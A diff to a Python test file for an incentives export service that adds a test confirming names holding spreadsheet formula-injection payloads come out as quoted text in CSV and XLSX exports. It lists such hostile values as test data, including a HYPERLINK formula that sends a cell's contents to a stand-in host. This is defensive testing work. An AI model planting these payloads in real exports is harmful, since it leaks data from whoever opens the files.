@@ -2,6 +2,7 @@
 
 import csv
 import io
+from datetime import date
 from decimal import Decimal
 
 import openpyxl
@@ -9,7 +10,7 @@ import pytest
 
 from services.incentives.service.exports import COLUMNS
 from shared.contracts.enums import Role
-from tests.incentives.factories import BASE, build, county, finance
+from tests.incentives.factories import BASE, build, cadre, county, finance, posting, unit_tree
 
 
 @pytest.fixture
@@ -102,3 +103,32 @@ async def test_export_is_finance_only_and_formats_are_checked(system, batch):
         assert (await system.client.get(url, headers=system.headers(role))).status_code == 403
     r = await system.client.get(url, params={"format": "pdf"}, headers=finance(system))
     assert r.status_code == 422 and r.json()["field"] == "format"
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"pay")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_formulas_in_names_are_written_as_text(system):
+    units = await unit_tree(system)
+    for name in HOSTILE:
+        cadre_id, _ = await cadre(system, name=name)
+        await posting(system, cadre_id, units["village_a"], start=date(2026, 1, 1))
+    batch = await build(system, "2026-11")
+    text = (await export(system, batch["id"], "csv")).content.decode("utf-8-sig")
+    _, lines, _ = sections(text)
+    rows = [dict(zip(COLUMNS, row, strict=True)) for row in lines[1:]]
+    assert sorted(row["cadre_name"] for row in rows) == sorted("'" + n for n in HOSTILE)
+    assert {row["net"] for row in rows} == {"2000.00"}  # amounts stay plain numbers
+    wb = openpyxl.load_workbook(io.BytesIO((await export(system, batch["id"], "xlsx")).content))
+    cells = [row[1] for row in wb["Lines"].iter_rows(min_row=2)]
+    # XML reads a CR back as LF; what matters is that it is text, not a formula.
+    assert sorted(c.value for c in cells) == sorted(n.replace("\r", "\n") for n in HOSTILE)
+    assert {c.data_type for c in cells} == {"s"} and all(c.quotePrefix for c in cells)
+    assert {row[7].data_type for row in wb["Lines"].iter_rows(min_row=2)} == {"n"}
